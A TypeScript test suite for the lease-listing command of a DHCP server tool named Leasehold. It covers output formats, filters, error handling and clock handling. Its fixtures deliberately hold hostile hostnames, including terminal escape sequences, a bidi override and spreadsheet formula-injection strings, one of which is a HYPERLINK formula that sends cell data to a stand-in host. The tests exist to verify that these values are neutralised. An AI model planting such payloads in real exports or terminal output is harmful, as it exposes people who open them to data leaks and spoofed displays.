import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { after, before, describe, type TestContext, test } from "node:test";
import { type Lease, LeaseState, NEVER } from "../../src/leases/dhcp4/lease.ts";
import { writeLeaseName } from "../../src/leases/lease-name.ts";
import { openSqliteStore } from "../../src/store/sqlite/store.ts";
import { leaseOf, ownerOf, putOf } from "../support/leases.ts";
import { MAIN, newFolder, newPlace, startServer, writeIn } from "../support/loopback-server.ts";
import { requirePrograms, requireRoot } from "../support/requirement.ts";
import { runLeasehold } from "../support/run-leasehold.ts";

const folder = newFolder({ after });
const database = join(folder, "leases.db");
const START = 1_700_000_000;
/** Far enough away. */
const LATER = 4_000_000_000;
const text = (value: string) => new TextEncoder().encode(value);

/** One lease of each kind, and hostnames that mean harm. */
const LEASES: readonly (readonly [lease: Lease, network: string])[] = [
  [
    {
      ...leaseOf(0x0a000001, 1, LeaseState.bound, START, LATER),
      owner: ownerOf(1, {
        clientIdentifier: Uint8Array.of(1, 2, 0, 0, 0, 0, 1),
        hostname: text("printer"),
        vendorClass: text("MSFT 5.0"),
        relayAgentInformation: Uint8Array.of(1, 4, 0xde, 0xad, 0xbe, 0xef, 2, 2, 0xca, 0xfe),
        name: writeLeaseName({ name: "printer.home.lan", flags: 3 }),
      }),
    },
    "10.0.0.0/24",
  ],
  [leaseOf(0x0a000002, 2, LeaseState.bound, START, NEVER), "10.0.0.0/24"],
  // Its time is over, though nobody has written so.
  [leaseOf(0x0a000003, 3, LeaseState.bound, START, START + 60), "10.0.0.0/24"],
  [leaseOf(0x0a000004, 4, LeaseState.released, START, START + 60), "10.0.0.0/24"],
  [leaseOf(0x0a000005, 5, LeaseState.expired, START, START + 60), "10.0.0.0/24"],
  [leaseOf(0x0a000006, 6, LeaseState.declined, START, LATER), "10.0.0.0/24"],
  [named(0x0a000101, 0x0101, "\u001b[31mred\u0007\r\n\u009b2J\u202eevil\u2028x"), "10.0.1.0/24"],
  [named(0x0a000102, 0x0102, '=HYPERLINK("http://x/?"&A1,"a,b")'), "10.0.1.0/24"],
  [named(0x0a000103, 0x0103, "+1+1"), "10.0.1.0/24"],
  [named(0x0a000104, 0x0104, "-1+1"), "10.0.1.0/24"],
  [named(0x0a000105, 0x0105, "@SUM(A1)"), "10.0.1.0/24"],
  [named(0x0a000106, 0x0106, "\t=1+1"), "10.0.1.0/24"],
  [named(0x0a000107, 0x0107, "büro, 1. Stock"), "10.0.1.0/24"],
  [
    { ...leaseOf(0x0a000108, 0x0108, LeaseState.bound, START, LATER), owner: ownerOf(0x0108, { hostname: Uint8Array.of(0xff, 0, 0x41) }) },
    "",
  ],
];

function named(address: number, client: number, hostname: string): Lease {
  return { ...leaseOf(address, client, LeaseState.bound, START, LATER), owner: ownerOf(client, { hostname: text(hostname) }) };
}

async function write(path: string, leases: readonly (readonly [Lease, string])[]): Promise<void> {
  const store = openSqliteStore(path);
  await store.commit(leases.map(([lease, network], row) => putOf(row, lease, network)));
  await store.close();
}

before(() => write(database, LEASES));

/** Standard output of a listing that succeeds, by lines. */
async function lines(...args: string[]): Promise<string[]> {
  const { status, stdout, stderr } = await runLeasehold("leases", ...args);
  assert.deepEqual([status, stderr], [0, ""]);
  assert.ok(stdout === "" || stdout.endsWith("\n"));
  return stdout.split("\n").slice(0, -1);
}

describe("leasehold leases", { concurrency: 2 }, () => {
  test("times are shown by the clock of the machine, and leases end by it, whatever time the server tells them in", async () => {
    const path = join(folder, "clock.db");
    const now = Math.floor(Date.now() / 1000);
    const store = openSqliteStore(path);
    // A machine that was in 1970 when it gave these, and was set to what is right a thousand seconds after.
    await store.commit([
      { kind: "clock", offset: now - 1000, trusted: 0, boot: "b", bootOffset: 0 },
      putOf(0, leaseOf(0x0a000001, 1, LeaseState.bound, 100, 3700), ""),
      putOf(1, leaseOf(0x0a000002, 2, LeaseState.bound, 100, 900), ""),
      putOf(2, leaseOf(0x0a000003, 3, LeaseState.bound, 100, NEVER), ""),
    ]);
    await store.close();
    const iso = (seconds: number) => new Date(seconds * 1000).toISOString().replace(".000Z", "Z");
    const leases = (await lines("-d", path, "--json")).map((line) => JSON.parse(line));
    assert.deepEqual(
      leases.map(({ address, state, start, expiry }) => [address, state, start, expiry]),
      [
        ["10.0.0.1", "bound", iso(now - 900), iso(now + 2700)],
        ["10.0.0.2", "expired", iso(now - 900), iso(now - 100)],
        ["10.0.0.3", "bound", iso(now - 900), "never"],
      ],
    );
    assert.deepEqual((await lines("-d", path, "--csv", "--state", "expired"))[1]?.split(",").slice(0, 2), ["10.0.0.2", "expired"]);
  });

  test("--json is one object a line, with every field", async () => {
    const leases = (await lines("-d", database, "--json")).map((line) => JSON.parse(line));
    const nothing = { client_identifier: null, hostname: null, vendor_class: null, circuit_id: null, remote_id: null };
    const start = "2023-11-14T22:13:20Z";
    const over = "2023-11-14T22:14:20Z";
    const later = "2096-10-02T07:06:40Z";
    const network = "10.0.0.0/24";
    assert.deepEqual(leases.slice(0, 6), [
      {
        address: "10.0.0.1",
        state: "bound",
        hardware_address: "02:00:00:00:00:01",
        client_identifier: "01020000000001",
        hostname: "printer",
        name: "printer.home.lan",
        start,
        expiry: later,
        vendor_class: "MSFT 5.0",
        circuit_id: "deadbeef",
        remote_id: "cafe",
        network,
      },
      { address: "10.0.0.2", state: "bound", hardware_address: "02:00:00:00:00:02", ...nothing, start, expiry: "never", network },
      { address: "10.0.0.3", state: "expired", hardware_address: "02:00:00:00:00:03", ...nothing, start, expiry: over, network },
      { address: "10.0.0.4", state: "released", hardware_address: "02:00:00:00:00:04", ...nothing, start, expiry: over, network },
      { address: "10.0.0.5", state: "expired", hardware_address: "02:00:00:00:00:05", ...nothing, start, expiry: over, network },
      { address: "10.0.0.6", state: "declined", hardware_address: "02:00:00:00:00:06", ...nothing, start, expiry: later, network },
    ]);
    assert.deepEqual(
      leases.slice(6).map(({ hostname }) => hostname),
      [
        "\ufffd[31mred\ufffd\ufffd\ufffd\ufffd2J\ufffdevil\ufffdx",
        '=HYPERLINK("http://x/?"&A1,"a,b")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\ufffd=1+1",
        "büro, 1. Stock",
        "\ufffd\ufffdA",
      ],
    );
  });

  test("--csv has a header, quotes what needs it, and holds no formula and no control character", async () => {
    const all = await lines("-d", database, "--csv");
    assert.equal(
      all[0],
      "address,state,hardware_address,client_identifier,hostname,start,expiry,vendor_class,circuit_id,remote_id,network,name,found_by",
    );
    assert.equal(
      all[1],
      "10.0.0.1,bound,02:00:00:00:00:01,01020000000001,printer,2023-11-14T22:13:20Z,2096-10-02T07:06:40Z,MSFT 5.0,deadbeef,cafe,10.0.0.0/24,printer.home.lan,",
    );
    const hostnames = all.slice(7).map((line) => line.slice("10.0.1.1,bound,02:00:00:00:01:01,,".length, line.indexOf(",2023-11-14T")));
    assert.deepEqual(hostnames, [
      "\ufffd[31mred\ufffd\ufffd\ufffd\ufffd2J\ufffdevil\ufffdx",
      `"'=HYPERLINK(""http://x/?""&A1,""a,b"")"`,
      "'+1+1",
      "'-1+1",
      "'@SUM(A1)",
      "\ufffd=1+1",
      '"büro, 1. Stock"',
      "\ufffd\ufffdA",
    ]);
  });

  test("for people it is a table whose columns stand below their names", async () => {
    const all = await lines("-d", database, "--network", "10.0.0.0/24");
    assert.deepEqual(all, [
      "ADDRESS   STATE     CLIENT             HOSTNAME  NAME              EXPIRY                NETWORK",
      "10.0.0.1  bound     02:00:00:00:00:01  printer   printer.home.lan  2096-10-02T07:06:40Z  10.0.0.0/24",
      "10.0.0.2  bound     02:00:00:00:00:02                              never                 10.0.0.0/24",
      "10.0.0.3  expired   02:00:00:00:00:03                              2023-11-14T22:14:20Z  10.0.0.0/24",
      "10.0.0.4  released  02:00:00:00:00:04                              2023-11-14T22:14:20Z  10.0.0.0/24",
      "10.0.0.5  expired   02:00:00:00:00:05                              2023-11-14T22:14:20Z  10.0.0.0/24",
      "10.0.0.6  declined  02:00:00:00:00:06                              2096-10-02T07:06:40Z  10.0.0.0/24",
    ]);
    // A column without anything in it is left out.
    assert.match((await lines("-d", database, "--address", "10.0.0.2"))[0] ?? "", /HOSTNAME {2}EXPIRY/);
    const everything = (await lines("-d", database)).join("\n");
    assert.doesNotMatch(everything.replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test("an address that a probe found in use is told apart from one that its client declined", async (t) => {
    const path = join(newFolder(t), "x.db");
    const declined = leaseOf(0x0a000006, 6, LeaseState.declined, START, LATER);
    const more = { hostname: text("printer"), foundByProbe: true } as const;
    await write(path, [
      [declined, "10.0.0.0/24"],
      [{ ...declined, address: 0x0a000007, owner: ownerOf(7, more) }, "10.0.0.0/24"],
    ]);
    assert.deepEqual(await lines("-d", path, "--state", "declined"), [
      "ADDRESS   STATE     CLIENT             HOSTNAME  EXPIRY                NETWORK",
      "10.0.0.6  declined  02:00:00:00:00:06            2096-10-02T07:06:40Z  10.0.0.0/24",
      "10.0.0.7  declined  found by a probe             2096-10-02T07:06:40Z  10.0.0.0/24",
    ]);
    const [own, found] = (await lines("-d", path, "--json")).map((line) => JSON.parse(line));
    assert.deepEqual([own.state, own.found_by], ["declined", undefined]);
    assert.deepEqual([found.state, found.found_by, found.hardware_address], ["declined", "probe", "02:00:00:00:00:07"]);
    assert.match((await lines("-d", path, "--csv"))[2] ?? "", /,10\.0\.0\.0\/24,,probe$/);
  });

  test("--count and --summary say how many of those that are looked for", async () => {
    assert.deepEqual(await lines("-d", database, "--count", "--state", "bound"), ["10"]);
    assert.deepEqual(await lines("-d", database, "--summary"), [
      "NETWORK       BOUND  RELEASED  EXPIRED  DECLINED  TOTAL",
      "(no network)      1         0        0         0      1",
      "10.0.0.0/24       2         1        2         1      6",
      "10.0.1.0/24       7         0        0         0      7",
      "total            10         1        2         1     14",
    ]);
    assert.deepEqual(
      (await lines("-d", database, "--summary", "--json", "--address", "10.0.0.0/24")).map((line) => JSON.parse(line)),
      [{ network: "10.0.0.0/24", bound: 2, released: 1, expired: 2, declined: 1, total: 6 }],
    );
  });

  test("on a terminal it is no wider than that, and says what is left of a lease", async (t) => {
    if (!requirePrograms(t, "script", "stty")) return;
    const path = join(newFolder(t), "x.db");
    const now = Math.floor(Date.now() / 1000);
    const long = named(0x0a000102, 2, "a-host-with-a-name-that-is-longer-than-there-is-room-for");
    await write(path, [
      [{ ...long, expiry: now + 5 * 86400 + 5400 }, "10.0.1.0/24"],
      [leaseOf(0x0a000101, 1, LeaseState.bound, START, NEVER), "10.0.1.0/24"],
    ]);
    const shown = (columns: number) => {
      const command = `stty cols ${columns}; ${process.execPath} ${MAIN} leases -d ${path}`;
      return spawnSync("script", ["-qec", command, "/dev/null"], { encoding: "utf8", stdio: ["ignore", "pipe", "inherit"] }).stdout;
    };
    assert.deepEqual(shown(80).split("\r\n"), [
      "ADDRESS   STATE  CLIENT             HOSTNAME               EXPIRY    NETWORK",
      "10.0.1.1  bound  02:00:00:00:00:01                         never     10.0.1.0/24",
      "10.0.1.2  bound  02:00:00:00:00:02  a-host-with-a-name-t…  in 5d 1h  10.0.1.0/24",
      "",
    ]);
  });

  const FILTERS: readonly (readonly [args: readonly string[], addresses: readonly string[]])[] = [
    [["--state", "released"], ["10.0.0.4"]],
    [
      ["--state", "expired"],
      ["10.0.0.3", "10.0.0.5"],
    ],
    [
      ["--state", "bound", "--network", "10.0.0.0/24"],
      ["10.0.0.1", "10.0.0.2"],
    ],
    [["--address", "10.0.0.5"], ["10.0.0.5"]],
    [
      ["--address", "10.0.0.4/30"],
      ["10.0.0.4", "10.0.0.5", "10.0.0.6"],
    ],
    [["--mac", "02-00-00-00-01-08"], ["10.0.1.8"]],
    [["--mac", "020000000107"], ["10.0.1.7"]],
    [
      ["--mac", "02:00:00:00:00"],
      ["10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4", "10.0.0.5", "10.0.0.6"],
    ],
    [["--client-id", "01:02:00"], ["10.0.0.1"]],
    [["--hostname", "print"], ["10.0.0.1"]],
    [["--name", "Printer.Home"], ["10.0.0.1"]],
    [["--name", "MSFT"], []],
    [["--network", "10.9.0.0/16"], []],
    [["--relay", "DEADBEEF"], ["10.0.0.1"]],
    [["--relay", "ca:fe"], ["10.0.0.1"]],
    [["--relay", "beef"], []],
    [["--mac", "02:00", "--state", "bound", "--hostname", "+1+"], ["10.0.1.3"]],
  ];
  for (const [args, expected] of FILTERS) {
    test(`${args.join(" ")} lists ${expected.length} of them`, async () => {
      const leases = (await lines("-d", database, "--json", ...args)).map((line) => JSON.parse(line).address);
      assert.deepEqual(leases, expected);
    });
  }

  const MISTAKES: readonly (readonly [args: readonly string[], says: RegExp])[] = [
    [["--state", "offered"], /'offered' is invalid\. Allowed choices are bound, released, expired, declined/],
    [["--address", "10.0.0"], /--address 10\.0\.0: expected an address such as 10\.0\.0\.5, or a prefix/],
    [["--address", "10.0.0.1/24"], /--address 10\.0\.0\.1\/24: expected/],
    [["--network", "10.0.0.0"], /--network 10\.0\.0\.0: expected a network such as 10\.0\.0\.0\/24/],
    [["--mac", "printer"], /--mac printer: expected hex digits/],
    [["--client-id", ""], /--client-id : expected hex digits/],
    [["--relay", ""], /--relay : expected hex digits/],
    [["--reserved"], /--reserved: name with -c the configuration that has the reservations/],
    [["--count", "--release", "all"], /'--release <addresses>' cannot be used with option '--count'/],
    [["--summary", "--at", "2026-11-28"], /'--at <time>' cannot be used with option '--summary'/],
    [["--json", "--csv"], /'--csv' cannot be used with option '--json'/],
  ];
  for (const [args, says] of MISTAKES) {
    test(`refuses ${args.join(" ")} with status 2`, async () => {
      const { status, stdout, stderr } = await runLeasehold("leases", "-d", database, ...args);
      assert.deepEqual([status, stdout], [2, ""]);
      assert.match(stderr, says);
    });
  }

  test("a database without leases", async (t) => {
    const path = join(newFolder(t), "empty.db");
    await write(path, []);
    assert.deepEqual(await lines("-d", path), ["no leases"]);
    assert.deepEqual(await lines("-d", path, "--json"), []);
    assert.equal((await lines("-d", path, "--csv")).length, 1);
  });

  const UNUSABLE: readonly (readonly [name: string, make: (path: string) => string, says: RegExp])[] = [
    ["a missing file", (path) => path, /lease database .*x\.db: it can't be read or written \(there is no such file\)/],
    ["a folder", (path) => join(path, ".."), /it can't be read or written \(it is a folder\)/],
    ["an empty file", (path) => made(path, ""), /it is not a lease database of Leasehold: give another file with -d/],
    ["a text file", (path) => made(path, "leases\n".repeat(1000)), /it is not a lease database of Leasehold: give another file with -d/],
    ["another database", (path) => sql(path, "CREATE TABLE leases (a)"), /it is not a lease database of Leasehold/],
    ["a newer one", (path) => sql(path, "PRAGMA application_id = 0x4c534844; PRAGMA user_version = 9"), /written by a newer version/],
  ];
  for (const [name, make, says] of UNUSABLE) {
    test(`refuses ${name} with status 1, and makes no file`, async (t) => {
      const path = make(join(newFolder(t), "x.db"));
      const { status, stdout, stderr } = await runLeasehold("leases", "-d", path);
      assert.deepEqual([status, stdout], [1, ""]);
      assert.match(stderr, says);
      assert.equal(stderr.split("\n").length, 2, stderr);
    });
  }

  test("says when permission is missing", async (t) => {
    if (!requireRoot(t) || !requirePrograms(t, "setpriv")) return;
    const path = join(newFolder(t), "x.db");
    await write(path, []);
    chmodSync(path, 0);
    const child = spawn("setpriv", ["--bounding-set=-all", process.execPath, MAIN, "leases", "-d", path], {
      stdio: ["ignore", "ignore", "pipe"],
    });
    let said = "";
    child.stderr.on("data", (data) => {
      said += data;
    });
    const [status] = await once(child, "close");
    assert.equal(status, 1);
    assert.match(said, /^leasehold: lease database .*x\.db: it can't be read or written \(permission denied: run this as the user/);
  });

  test("ends quietly when its reader has seen enough", async (t) => {
    const path = join(newFolder(t), "x.db");
    await write(
      path,
      Array.from({ length: 20_000 }, (_, i) => [leaseOf(0x0a000000 + i, i, LeaseState.bound, START, LATER), "10.0.0.0/8"]),
    );
    for (const form of ["--json", "--csv"]) {
      const child = spawn(process.execPath, [MAIN, "leases", "-d", path, form], { stdio: ["ignore", "pipe", "pipe"] });
      let said = "";
      child.stderr.on("data", (data) => {
        said += data;
      });
      child.stdout.once("data", () => child.stdout.destroy());
      const [status] = await once(child, "close");
      assert.deepEqual([status, said], [0, ""]);
    }
  });

  test("shows the same while a server is running as after it has stopped", async (t: TestContext) => {
    const own = newFolder(t);
    const config = `interfaces: [lo]\nlog: {format: json}\nnetworks:\n  10.77.0.0/16: {ranges: [{range: 10.77.1.1-10.77.1.200}]}\n`;
    const files = { config: writeIn(own, "c.yaml", config), database: join(own, "leases.db") };
    const place = newPlace();
    const server = await startServer(t, files, place);
    assert.deepEqual(await lines("-d", files.database), ["no leases"]);
    const probe = [
      "--server",
      `${place.address}:${place.port}`,
      "--relay",
      "10.77.0.1",
      "--count",
      "5",
      "--option",
      "host_name=\u001b[1mx",
    ];
    const probed = await runLeasehold("probe", ...probe);
    assert.equal(probed.status, 0, probed.stdout + probed.stderr);
    const during = await lines("-d", files.database, "--csv");
    assert.equal(await server.end("SIGTERM"), 0);
    const afterwards = await lines("-d", files.database, "--csv");
    assert.deepEqual(during, afterwards);
    assert.equal(during.length, 6);
    for (const line of during.slice(1))
      assert.match(line, /^10\.77\.1\.\d+,bound,02:00:00:00:00:0\d,01020000000\d{3},\ufffd\[1mx,.*,,,10\.77\.0\.0\/16,,$/);
  });
});

function made(path: string, content: string): string {
  writeFileSync(path, content);
  return path;
}

function sql(path: string, statements: string): string {
  const db = new DatabaseSync(path);
  db.exec(statements);
  db.close();
  return path;
}
